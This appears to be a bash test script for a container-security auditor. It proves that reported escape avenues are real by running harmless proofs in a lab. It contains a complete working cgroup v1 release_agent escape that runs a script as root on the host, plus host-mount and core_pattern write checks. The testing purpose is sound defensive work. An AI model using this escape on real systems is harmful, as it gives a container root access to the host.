#!/usr/bin/env bash
# Proof tests: the avenues `bulkhead inside` reports for the privileged and the host-mount containers are
# real. A harmless proof writes a marker file under $LAB_DIR on the host from inside the container; the same
# attempt from the default container must fail. Nothing else on the host is touched: the privileged proof
# mounts a new, empty, named cgroup v1 hierarchy of its own (never an existing one), points its release_agent
# at a script in the container's own rootfs, and unmounts it again.
set -u
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/lab.sh"

# lab_init runs in this shell (not in $(…)), so LAB_DIR is kept and lab_cleanup removes it
if ! lab_init >"${TMPDIR:-/tmp}/bh-lab-reason.$$"; then
	skip "proof lab: $(cat "${TMPDIR:-/tmp}/bh-lab-reason.$$")"
	rm -f "${TMPDIR:-/tmp}/bh-lab-reason.$$"
	finish
	exit
fi
rm -f "${TMPDIR:-/tmp}/bh-lab-reason.$$"
trap 'lab_cleanup' EXIT

reports() { # NAME RULE: bulkhead inside in NAME reports RULE
	lab_run "$1" /usr/local/bin/bulkhead inside --format json >"$LAB_DIR/$1.json" 2>/dev/null
	jq -e --arg r "$2" '[.findings[] | select(.rule == $r)] | length > 0' "$LAB_DIR/$1.json" >/dev/null
}

# The classic release_agent escape, done as a proof: the container finds its rootfs' host path in
# mountinfo (field 4 of "/"), mounts a fresh named v1 hierarchy, sets release_agent to a script in its
# rootfs and empties a child cgroup; the kernel then runs the script on the host as root.
release_agent_proof='
set -e
hostroot=$(awk "\$5 == \"/\" {print \$4; exit}" /proc/self/mountinfo)
d=/tmp/bh-proof-cg
mkdir -p $d
mount -t cgroup -o none,name=bhproof$$ cgroup $d
mkdir -p $d/x
echo 1 >$d/x/notify_on_release
printf "#!/bin/sh\necho escaped-via-release-agent >%s/../%s\n" "$hostroot" "$1" >/bh-proof.sh
chmod +x /bh-proof.sh
echo "$hostroot/bh-proof.sh" >$d/release_agent
sh -c "echo \$\$ >$d/x/cgroup.procs"
i=0; while [ $i -lt 50 ] && [ -d $d/x ] && [ -n "$(cat $d/x/cgroup.procs)" ]; do sleep 0.1; i=$((i+1)); done
sleep 1
rmdir $d/x
umount $d
'

cgroup_v2_only=0
[ "$(stat -fc %T /sys/fs/cgroup)" = cgroup2fs ] && cgroup_v2_only=1

# --- privileged: the reported cgroup avenue is real
lab_bundle privileged --privileged
lab_bundle default
if [ $cgroup_v2_only = 1 ]; then
	skip "release_agent proof: this host is cgroup v2-only (the lab gives containers a private cgroup namespace)"
elif reports privileged BH0422 || reports privileged BH0421; then
	ok "privileged: inside reports the cgroup v1 release_agent avenue"
	lab_run privileged /bin/sh -c "$release_agent_proof" sh marker-privileged >"$LAB_DIR/priv.out" 2>&1
	if [ "$(cat "$LAB_DIR/marker-privileged" 2>/dev/null)" = escaped-via-release-agent ]; then
		ok "privileged: proof ran on the host (marker written through release_agent)"
	else
		fail "privileged: proof did not reach the host: $(tail -c 300 "$LAB_DIR/priv.out")"
	fi
	check "default: inside does not report the release_agent avenue" eval '! reports default BH0422 && ! reports default BH0421'
	lab_run default /bin/sh -c "$release_agent_proof" sh marker-default >"$LAB_DIR/default.out" 2>&1
	check "default: the same proof fails in the container" test "$?" != 0
	check "default: no marker on the host" test ! -e "$LAB_DIR/marker-default"
else
	fail "privileged: inside does not report a cgroup release_agent avenue"
fi

# --- privileged: the reported writable /proc/sys is real (read-only check: the access test, no write)
check "privileged: inside reports writable /proc/sys" reports privileged BH0419
check "privileged: core_pattern opens for writing (opened and closed, nothing written)" \
	lab_run privileged /bin/sh -c 'exec 3>>/proc/sys/kernel/core_pattern'
check "default: core_pattern does not open for writing" eval '! lab_run default /bin/sh -c "exec 3>>/proc/sys/kernel/core_pattern" 2>/dev/null'

# --- host mount: the node's / at /host
lab_bundle hostroot --bind /:/host
lab_bundle hostrootro --bind /:/host:ro
check "host mount: inside reports the node's / at /host (critical)" eval \
	'reports hostroot BH0417 && jq -e "[.findings[] | select(.rule == \"BH0417\" and .severity == \"critical\" and .field == \"/host\")] | length > 0" "$LAB_DIR/hostroot.json" >/dev/null'
lab_run hostroot /bin/sh -c "echo escaped-via-host-mount >/host$LAB_DIR/marker-hostmount"
check "host mount: proof wrote the marker on the host" test "$(cat "$LAB_DIR/marker-hostmount" 2>/dev/null)" = escaped-via-host-mount
lab_run hostrootro /bin/sh -c "echo x >/host$LAB_DIR/marker-hostmount-ro" 2>/dev/null
check "host mount read-only: proof write fails (reported high, not critical)" test ! -e "$LAB_DIR/marker-hostmount-ro"
lab_run default /bin/sh -c "echo x >/host$LAB_DIR/marker-default-mount" 2>/dev/null
check "default: the host-mount proof fails" test ! -e "$LAB_DIR/marker-default-mount"
finish
